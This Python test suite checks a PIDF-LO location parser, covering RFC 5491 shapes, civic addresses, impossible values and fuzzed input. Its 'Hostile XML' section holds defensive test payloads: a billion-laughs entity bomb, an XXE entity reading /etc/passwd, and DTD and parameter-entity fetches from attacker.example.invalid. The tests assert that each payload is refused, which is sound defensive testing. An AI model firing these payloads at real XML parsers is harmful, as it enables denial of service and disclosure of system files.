"""PIDF-LO intake: every RFC 5491 shape, civic addresses, and hostile or impossible input."""

from __future__ import annotations

import contextlib
import math
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from shapely.geometry import Point as ShapelyPoint

from routing import shapes
from routing.errors import LocationError
from routing.location import Civic, Point, Shape
from routing.pidf import MAX_DOCUMENT_BYTES, PidfLocation, parse_pidf

FIXTURES = Path(__file__).parent / "fixtures"

WGS84 = "urn:ogc:def:crs:EPSG::4326"
WGS84_3D = "urn:ogc:def:crs:EPSG::4979"
METRES = "urn:ogc:def:uom:EPSG::9001"
DEGREES = "urn:ogc:def:uom:EPSG::9102"


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def pidf(location_info: str, method: str = "GPS") -> str:
    """A PIDF-LO with one tuple whose location-info holds `location_info`."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf"
          xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"
          xmlns:gml="http://www.opengis.net/gml"
          xmlns:gs="http://www.opengis.net/pidflo/1.0"
          xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr"
          xmlns:con="urn:ietf:params:xml:ns:geopriv:conf"
          entity="pres:test@example.invalid">
  <tuple id="t1">
    <status>
      <gp:geopriv>
        <gp:location-info>{location_info}</gp:location-info>
        <gp:usage-rules/>
        <gp:method>{method}</gp:method>
      </gp:geopriv>
    </status>
  </tuple>
</presence>"""


def gml_point(pos: str, srs: str = WGS84) -> str:
    return f'<gml:Point srsName="{srs}"><gml:pos>{pos}</gml:pos></gml:Point>'


def circle(pos: str = "39.11 -94.63", radius: str = "300", uom: str = METRES) -> str:
    return (
        f'<gs:Circle srsName="{WGS84}"><gml:pos>{pos}</gml:pos>'
        f'<gs:radius uom="{uom}">{radius}</gs:radius></gs:Circle>'
    )


def ellipse(major: str = "800", minor: str = "300", orientation: str = "0") -> str:
    return (
        f'<gs:Ellipse srsName="{WGS84}"><gml:pos>39.11 -94.63</gml:pos>'
        f'<gs:semiMajorAxis uom="{METRES}">{major}</gs:semiMajorAxis>'
        f'<gs:semiMinorAxis uom="{METRES}">{minor}</gs:semiMinorAxis>'
        f'<gs:orientation uom="{DEGREES}">{orientation}</gs:orientation></gs:Ellipse>'
    )


def polygon(pos_list: str) -> str:
    return (
        f'<gml:Polygon srsName="{WGS84}"><gml:exterior><gml:LinearRing>'
        f"<gml:posList>{pos_list}</gml:posList>"
        "</gml:LinearRing></gml:exterior></gml:Polygon>"
    )


def arc_band(inner: str, outer: str, start: str = "0", opening: str = "90") -> str:
    return (
        f'<gs:ArcBand srsName="{WGS84}"><gml:pos>39.05 -94.70</gml:pos>'
        f'<gs:innerRadius uom="{METRES}">{inner}</gs:innerRadius>'
        f'<gs:outerRadius uom="{METRES}">{outer}</gs:outerRadius>'
        f'<gs:startAngle uom="{DEGREES}">{start}</gs:startAngle>'
        f'<gs:openingAngle uom="{DEGREES}">{opening}</gs:openingAngle></gs:ArcBand>'
    )


def extent_m(shape: Shape) -> tuple[float, float]:
    """(east-west, north-south) size of a shape in metres."""
    minx, miny, maxx, maxy = shape.geometry.bounds
    east_west = (maxx - minx) * shapes.metres_per_degree_lon((miny + maxy) / 2)
    north_south = (maxy - miny) * shapes.METRES_PER_DEGREE_LAT
    return east_west, north_south


def area_m2(shape: Shape) -> float:
    lat = shape.geometry.centroid.y
    scale = shapes.metres_per_degree_lon(lat) * shapes.METRES_PER_DEGREE_LAT
    return float(shape.geometry.area) * scale


def refused_quickly(document: bytes | str) -> LocationError:
    started = time.monotonic()
    with pytest.raises(LocationError) as caught:
        parse_pidf(document)
    assert time.monotonic() - started < 1.0
    return caught.value


# Geodetic shapes.


def test_point_comes_out_latitude_first_as_written() -> None:
    location = parse_pidf(fixture("point.xml"))

    assert location == PidfLocation(geo=Point(lat=39.11, lon=-94.63), civic=None, method="GPS")


def test_point_in_a_str_document_parses_like_bytes() -> None:
    assert parse_pidf(fixture("point.xml").decode()) == parse_pidf(fixture("point.xml"))


def test_3d_point_keeps_latitude_and_longitude_and_drops_altitude() -> None:
    location = parse_pidf(pidf(gml_point("39.11 -94.63 274.0", srs=WGS84_3D)))

    assert location.geo == Point(lat=39.11, lon=-94.63)


def test_point_without_srs_name_is_read_as_wgs84() -> None:
    location = parse_pidf(pidf("<gml:Point><gml:pos>39.11 -94.63</gml:pos></gml:Point>"))

    assert location.geo == Point(lat=39.11, lon=-94.63)


def test_circle_becomes_point_with_radius() -> None:
    location = parse_pidf(fixture("circle.xml"))

    assert location.geo == Point(lat=39.0997, lon=-94.5786, radius_m=850.0)
    assert location.method == "Cell"


def test_circle_radius_in_kilometres_is_converted_to_metres() -> None:
    location = parse_pidf(pidf(circle(radius="1.5", uom="urn:ogc:def:uom:EPSG::9036")))

    assert location.geo == Point(lat=39.11, lon=-94.63, radius_m=1500.0)


def test_circle_radius_in_feet_is_converted_to_metres() -> None:
    location = parse_pidf(pidf(circle(radius="1000", uom="urn:ogc:def:uom:EPSG::9002")))

    assert isinstance(location.geo, Point)
    assert location.geo.radius_m == pytest.approx(304.8)


def test_sphere_becomes_point_with_radius() -> None:
    sphere = (
        f'<gs:Sphere srsName="{WGS84_3D}"><gml:pos>39.11 -94.63 260</gml:pos>'
        f'<gs:radius uom="{METRES}">20</gs:radius></gs:Sphere>'
    )

    assert parse_pidf(pidf(sphere)).geo == Point(lat=39.11, lon=-94.63, radius_m=20.0)


def test_ellipse_becomes_shape_centred_on_its_position() -> None:
    geo = parse_pidf(fixture("ellipse.xml")).geo

    assert isinstance(geo, Shape)
    assert geo.description == "ellipse 800×300 m"
    centre = geo.geometry.centroid
    assert (centre.x, centre.y) == pytest.approx((-90.1994, 38.6270))
    assert area_m2(geo) == pytest.approx(math.pi * 800 * 300, rel=0.01)


def test_ellipse_with_orientation_zero_is_long_north_south() -> None:
    geo = parse_pidf(pidf(ellipse(orientation="0"))).geo

    assert isinstance(geo, Shape)
    east_west, north_south = extent_m(geo)
    assert north_south == pytest.approx(1600, rel=0.01)
    assert east_west == pytest.approx(600, rel=0.01)


def test_ellipse_with_orientation_ninety_is_long_east_west() -> None:
    geo = parse_pidf(pidf(ellipse(orientation="90"))).geo

    assert isinstance(geo, Shape)
    east_west, north_south = extent_m(geo)
    assert east_west == pytest.approx(1600, rel=0.01)
    assert north_south == pytest.approx(600, rel=0.01)


def test_ellipsoid_becomes_its_footprint_ellipse() -> None:
    ellipsoid = (
        f'<gs:Ellipsoid srsName="{WGS84_3D}"><gml:pos>39.11 -94.63 250</gml:pos>'
        f'<gs:semiMajorAxis uom="{METRES}">120</gs:semiMajorAxis>'
        f'<gs:semiMinorAxis uom="{METRES}">80</gs:semiMinorAxis>'
        f'<gs:verticalAxis uom="{METRES}">15</gs:verticalAxis>'
        f'<gs:orientation uom="{DEGREES}">10</gs:orientation></gs:Ellipsoid>'
    )
    geo = parse_pidf(pidf(ellipsoid)).geo

    assert isinstance(geo, Shape)
    assert geo.description == "ellipsoid 120×80 m"
    assert area_m2(geo) == pytest.approx(math.pi * 120 * 80, rel=0.01)


def test_polygon_from_pos_list_is_stored_longitude_first() -> None:
    geo = parse_pidf(fixture("polygon_poslist.xml")).geo

    assert isinstance(geo, Shape)
    assert geo.description == "polygon"
    assert geo.geometry.bounds == pytest.approx((-94.64, 39.10, -94.62, 39.12))
    assert geo.geometry.contains(ShapelyPoint(-94.63, 39.11))


def test_polygon_from_3d_pos_sequence_ignores_altitude() -> None:
    geo = parse_pidf(fixture("polygon_pos_3d.xml")).geo

    assert isinstance(geo, Shape)
    corners = [(-94.60, 39.05), (-94.56, 39.05), (-94.58, 39.08), (-94.60, 39.05)]
    assert list(geo.geometry.exterior.coords) == corners


def test_polygon_ring_left_open_is_closed() -> None:
    geo = parse_pidf(pidf(polygon("39.10 -94.64 39.10 -94.62 39.12 -94.62"))).geo

    assert isinstance(geo, Shape)
    assert len(geo.geometry.exterior.coords) == 4


def test_polygon_interior_ring_is_a_hole() -> None:
    with_hole = (
        f'<gml:Polygon srsName="{WGS84}">'
        "<gml:exterior><gml:LinearRing><gml:posList>"
        "39.10 -94.64 39.10 -94.62 39.12 -94.62 39.12 -94.64 39.10 -94.64"
        "</gml:posList></gml:LinearRing></gml:exterior>"
        "<gml:interior><gml:LinearRing><gml:posList>"
        "39.105 -94.635 39.105 -94.625 39.115 -94.625 39.115 -94.635 39.105 -94.635"
        "</gml:posList></gml:LinearRing></gml:interior></gml:Polygon>"
    )
    geo = parse_pidf(pidf(with_hole)).geo

    assert isinstance(geo, Shape)
    assert not geo.geometry.contains(ShapelyPoint(-94.63, 39.11))
    assert geo.geometry.contains(ShapelyPoint(-94.639, 39.101))


def test_prism_becomes_its_base_polygon() -> None:
    prism = (
        f'<gs:Prism srsName="{WGS84_3D}"><gs:base><gml:Polygon><gml:exterior>'
        "<gml:LinearRing><gml:posList>"
        "39.10 -94.64 250 39.10 -94.62 250 39.12 -94.62 250 39.10 -94.64 250"
        "</gml:posList></gml:LinearRing></gml:exterior></gml:Polygon></gs:base>"
        f'<gs:height uom="{METRES}">3</gs:height></gs:Prism>'
    )
    geo = parse_pidf(pidf(prism)).geo

    assert isinstance(geo, Shape)
    assert geo.description == "prism"
    assert geo.geometry.bounds == pytest.approx((-94.64, 39.10, -94.62, 39.12))


def test_arc_band_is_a_ring_sector_facing_its_angles() -> None:
    geo = parse_pidf(fixture("arcband.xml")).geo

    assert isinstance(geo, Shape)
    assert geo.description == "arc band"
    sector = math.pi * (3000**2 - 1000**2) * 60 / 360
    assert area_m2(geo) == pytest.approx(sector, rel=0.01)
    # Facing east (60° to 120°): 2 km due east is inside, the tower and 2 km west are not.
    kx = shapes.metres_per_degree_lon(39.05)
    assert geo.geometry.contains(ShapelyPoint(-94.70 + 2000 / kx, 39.05))
    assert not geo.geometry.contains(ShapelyPoint(-94.70, 39.05))
    assert not geo.geometry.contains(ShapelyPoint(-94.70 - 2000 / kx, 39.05))


def test_arc_band_without_inner_radius_is_a_pie_slice_from_the_centre() -> None:
    geo = parse_pidf(pidf(arc_band(inner="0", outer="2000", start="0", opening="90"))).geo

    assert isinstance(geo, Shape)
    assert area_m2(geo) == pytest.approx(math.pi * 2000**2 / 4, rel=0.01)
    assert geo.geometry.intersects(ShapelyPoint(-94.70, 39.05))


def test_arc_band_of_a_full_turn_is_an_annulus() -> None:
    geo = parse_pidf(pidf(arc_band(inner="500", outer="1500", opening="360"))).geo

    assert isinstance(geo, Shape)
    assert area_m2(geo) == pytest.approx(math.pi * (1500**2 - 500**2), rel=0.01)
    assert not geo.geometry.contains(ShapelyPoint(-94.70, 39.05))


# Civic addresses.


def test_civic_address_fills_every_field() -> None:
    location = parse_pidf(fixture("civic.xml"))

    assert location.geo is None
    assert location.civic == Civic(
        country="US",
        state="KS",
        county="Wyandotte",
        city="Kansas City",
        street="N Seventh St",
        house_number="701A",
        postal_code="66101",
    )
    assert location.method == "Manual"


def test_civic_street_folds_in_modifiers_and_directions_in_order() -> None:
    civic = (
        "<ca:civicAddress><ca:country>us</ca:country><ca:PRM>Old</ca:PRM>"
        "<ca:PRD>N</ca:PRD><ca:RD>Example</ca:RD><ca:STS>Rd</ca:STS><ca:POD>E</ca:POD>"
        "<ca:HNO>12</ca:HNO><ca:HNS>1/2</ca:HNS></ca:civicAddress>"
    )
    location = parse_pidf(pidf(civic))

    assert location.civic == Civic(country="US", street="Old N Example Rd E", house_number="12 1/2")


def test_civic_field_repeated_in_two_languages_keeps_the_first() -> None:
    civic = (
        '<ca:civicAddress><ca:A3 xml:lang="en">Saint Louis</ca:A3>'
        '<ca:A3 xml:lang="fr">Saint-Louis</ca:A3><ca:A1>MO</ca:A1></ca:civicAddress>'
    )

    assert parse_pidf(pidf(civic)).civic == Civic(state="MO", city="Saint Louis")


def test_document_with_geo_and_civic_gives_both() -> None:
    location = parse_pidf(fixture("geo_and_civic.xml"))

    assert location.geo == Point(lat=39.1052, lon=-94.5699, radius_m=45.0)
    assert location.civic is not None
    assert location.civic.county == "Jackson"
    assert location.civic.postal_code == "64106"
    assert location.method == "GPS"


def test_shape_and_civic_in_one_location_info_give_both() -> None:
    both = gml_point("39.11 -94.63") + "<ca:civicAddress><ca:A1>KS</ca:A1></ca:civicAddress>"
    location = parse_pidf(pidf(both))

    assert location.geo == Point(lat=39.11, lon=-94.63)
    assert location.civic == Civic(state="KS")


def test_first_usable_location_wins_over_later_ones() -> None:
    two = pidf(gml_point("39.11 -94.63")).replace(
        "</tuple>",
        f"</tuple><tuple id='t2'><status><gp:geopriv><gp:location-info>"
        f"{gml_point('38.63 -90.20')}</gp:location-info></gp:geopriv></status></tuple>",
    )

    assert parse_pidf(two).geo == Point(lat=39.11, lon=-94.63)


def test_unknown_shape_is_passed_over_for_a_later_usable_one() -> None:
    line = (
        f'<gml:LineString srsName="{WGS84}">'
        "<gml:posList>39.1 -94.6 39.2 -94.7</gml:posList></gml:LineString>"
    )
    document = pidf(line).replace(
        "</gp:location-info>",
        f"</gp:location-info><gp:location-info>{gml_point('39.11 -94.63')}</gp:location-info>",
    )

    assert parse_pidf(document).geo == Point(lat=39.11, lon=-94.63)


# Documents without a location.


def test_pidf_without_any_location_info_comes_back_empty_with_a_note() -> None:
    document = pidf("").replace("<gp:location-info></gp:location-info>", "")

    found = parse_pidf(document)

    assert (found.geo, found.civic) == (None, None)
    assert "no <gp:location-info>" in found.notes[0]


def test_location_info_with_only_unknown_content_is_noted_naming_it() -> None:
    line = "<gml:LineString><gml:posList>39.1 -94.6 39.2 -94.7</gml:posList></gml:LineString>"

    found = parse_pidf(pidf(line))

    assert (found.geo, found.civic) == (None, None)
    assert "found <LineString>" in found.notes[0]


def test_empty_civic_address_is_not_a_location() -> None:
    found = parse_pidf(pidf("<ca:civicAddress><ca:A1>  </ca:A1></ca:civicAddress>"))

    assert found.civic is None
    assert "no usable location" in found.notes[0]


def test_document_that_is_not_pidf_is_refused() -> None:
    with pytest.raises(LocationError, match="root element is <html>"):
        parse_pidf("<html><body>Hello</body></html>")


# Hostile XML.


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<presence xmlns="urn:ietf:params:xml:ns:pidf">&lol9;</presence>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<presence xmlns="urn:ietf:params:xml:ns:pidf"
          xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"
          xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr">
  <tuple id="t"><status><gp:geopriv><gp:location-info>
    <ca:civicAddress><ca:A3>&xxe;</ca:A3></ca:civicAddress>
  </gp:location-info></gp:geopriv></status></tuple>
</presence>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE presence SYSTEM "http://attacker.example.invalid/pidf.dtd">
<presence xmlns="urn:ietf:params:xml:ns:pidf"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY % remote SYSTEM "http://attacker.example.invalid/x"> %remote;]>
<presence xmlns="urn:ietf:params:xml:ns:pidf"/>"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_document_with_a_dtd_is_refused_quickly(document: str) -> None:
    error = refused_quickly(document)

    assert "DTD" in str(error)


def test_billion_laughs_as_bytes_is_refused_quickly() -> None:
    refused_quickly(BILLION_LAUGHS.encode())


def test_external_entity_never_reaches_the_civic_address() -> None:
    error = refused_quickly(EXTERNAL_ENTITY)

    assert "root:" not in str(error)


def test_huge_document_is_refused_before_parsing() -> None:
    padding = "<!-- padding -->" * (MAX_DOCUMENT_BYTES // 16)
    huge = pidf(gml_point("39.11 -94.63")).replace("<tuple", padding + "<tuple")

    error = refused_quickly(huge)

    assert f"over {MAX_DOCUMENT_BYTES} bytes" in str(error)


def test_huge_bytes_document_is_refused_before_parsing() -> None:
    refused_quickly(b"<" * (50 * 1024 * 1024))


def test_size_limit_counts_encoded_bytes_not_characters() -> None:
    # Under the limit in characters, over it in UTF-8: "é" is two bytes.
    document = pidf(gml_point("39.11 -94.63")) + "<!--" + "é" * (MAX_DOCUMENT_BYTES // 2) + "-->"

    refused_quickly(document)


def test_deeply_nested_document_is_refused_quickly() -> None:
    depth = MAX_DOCUMENT_BYTES // 8
    refused_quickly("<a>" * depth + "</a>" * depth)


# Malformed XML and impossible values.


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ("", "not well-formed"),
        (b"", "not well-formed"),
        ("<presence xmlns='urn:ietf:params:xml:ns:pidf'>", "not well-formed"),
        ("not xml at all", "not well-formed"),
        (b'<?xml version="1.0" encoding="no-such"?><a/>', "unknown encoding"),
    ],
)
def test_malformed_document_is_refused(document: bytes | str, message: str) -> None:
    with pytest.raises(LocationError, match=message):
        parse_pidf(document)


def test_document_of_the_wrong_type_is_refused() -> None:
    with pytest.raises(LocationError, match="must be bytes or str"):
        parse_pidf(123)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("location_info", "message"),
    [
        (gml_point("95 -94.63"), "latitude 95.0 is beyond ±90"),
        (gml_point("39.11 -194.63"), "longitude -194.63 is beyond ±180"),
        (gml_point("NaN -94.63"), "'NaN' is not a finite number"),
        (gml_point("39.11 INF"), "'INF' is not a finite number"),
        (gml_point("39.11 west"), "'west' is not a number"),
        (gml_point("39.11"), "must be latitude and longitude"),
        (gml_point("39.11 -94.63 12 7"), "must be latitude and longitude"),
        (gml_point("39.11 -94.63 12"), "must be latitude and longitude"),
        (gml_point("39.11 -94.63", srs=WGS84_3D), "and altitude"),
        (gml_point(""), "point position is empty"),
        ("<gml:Point srsName='urn:ogc:def:crs:EPSG::4326'/>", "point has no <gml:pos>"),
        (gml_point("39.11 -94.63", srs="urn:ogc:def:crs:EPSG::3857"), "only WGS 84"),
        (gml_point("-94.63 39.11", srs="urn:ogc:def:crs:OGC:1.3:CRS84"), "only WGS 84"),
        (circle(radius="-5"), "circle radius -5 m is negative"),
        (circle(radius="NaN"), "circle radius: 'NaN' is not a finite number"),
        (circle(radius="500000"), "too coarse"),
        (circle(radius=""), "circle radius is empty"),
        (circle(uom="urn:ogc:def:uom:EPSG::9999"), "not a length unit"),
        (circle(uom="furlongs"), "not a length unit"),
        (circle(uom=DEGREES), "not a length unit"),
        (circle().replace("<gs:radius", "<gs:r").replace("gs:radius>", "gs:r>"), "missing"),
        (ellipse(minor="0"), "axes must be positive"),
        (ellipse(orientation="north"), "'north' is not a number"),
        (polygon("39.10 -94.64 39.10 -94.62 39.10 -94.64"), "at least 3 distinct corners"),
        (polygon("39.10 -94.64 39.10 -94.62 39.12"), "not a whole number of 2-D positions"),
        (polygon("39.10 -94.64 39.10 -94.62 39.12 -94.64 39.12 -94.62"), "self-intersecting"),
        (polygon("39.10 -94.64 39.10 -94.62 99.12 -94.62"), "latitude 99.12 is beyond"),
        (f'<gml:Polygon srsName="{WGS84}"/>', "no <gml:exterior><gml:LinearRing>"),
        (arc_band(inner="2000", outer="1000"), "not beyond its inner radius"),
        (arc_band(inner="0", outer="1000", opening="0"), r"not within \(0, 360\]"),
        (arc_band(inner="0", outer="1000", opening="400"), r"not within \(0, 360\]"),
    ],
)
def test_impossible_location_is_refused_with_its_reason(location_info: str, message: str) -> None:
    with pytest.raises(LocationError, match=message):
        parse_pidf(pidf(location_info))


# Properties.


latitudes = st.floats(min_value=-90, max_value=90, allow_nan=False)
longitudes = st.floats(min_value=-180, max_value=180, allow_nan=False)


@given(lat=latitudes, lon=longitudes)
def test_any_real_point_round_trips_latitude_first(lat: float, lon: float) -> None:
    assert parse_pidf(pidf(gml_point(f"{lat!r} {lon!r}"))).geo == Point(lat=lat, lon=lon)


@given(
    lat=st.floats(min_value=-89, max_value=89),
    lon=st.floats(min_value=-179, max_value=179),
    radius=st.floats(min_value=0, max_value=50_000),
)
def test_any_real_circle_round_trips_with_its_radius(lat: float, lon: float, radius: float) -> None:
    geo = parse_pidf(pidf(circle(pos=f"{lat!r} {lon!r}", radius=repr(radius)))).geo

    assert geo == Point(lat=lat, lon=lon, radius_m=radius)


@given(
    lat=st.floats(min_value=-60, max_value=60),
    major=st.floats(min_value=1, max_value=20_000),
    ratio=st.floats(min_value=0.05, max_value=1),
    orientation=st.floats(min_value=-360, max_value=360),
)
def test_any_real_ellipse_contains_its_centre(
    lat: float, major: float, ratio: float, orientation: float
) -> None:
    document = pidf(ellipse(repr(major), repr(major * ratio), repr(orientation)))
    geo = parse_pidf(document.replace("39.11 -94.63", f"{lat!r} -94.63")).geo

    assert isinstance(geo, Shape)
    assert geo.geometry.contains(ShapelyPoint(-94.63, lat))


@given(lat=st.floats(allow_nan=False).filter(lambda value: abs(value) > 90))
def test_any_latitude_beyond_ninety_is_refused(lat: float) -> None:
    with pytest.raises(LocationError):
        parse_pidf(pidf(gml_point(f"{lat!r} -94.63")))


@given(text=st.text(max_size=60))
def test_anything_in_a_position_parses_or_is_a_location_error(text: str) -> None:
    try:
        location = parse_pidf(pidf(circle(pos=text)))
    except LocationError:
        return
    assert isinstance(location.geo, Point)


@given(document=st.binary(max_size=300) | st.text(max_size=300))
def test_arbitrary_input_parses_or_is_a_location_error(document: bytes | str) -> None:
    with contextlib.suppress(LocationError):
        parse_pidf(document)
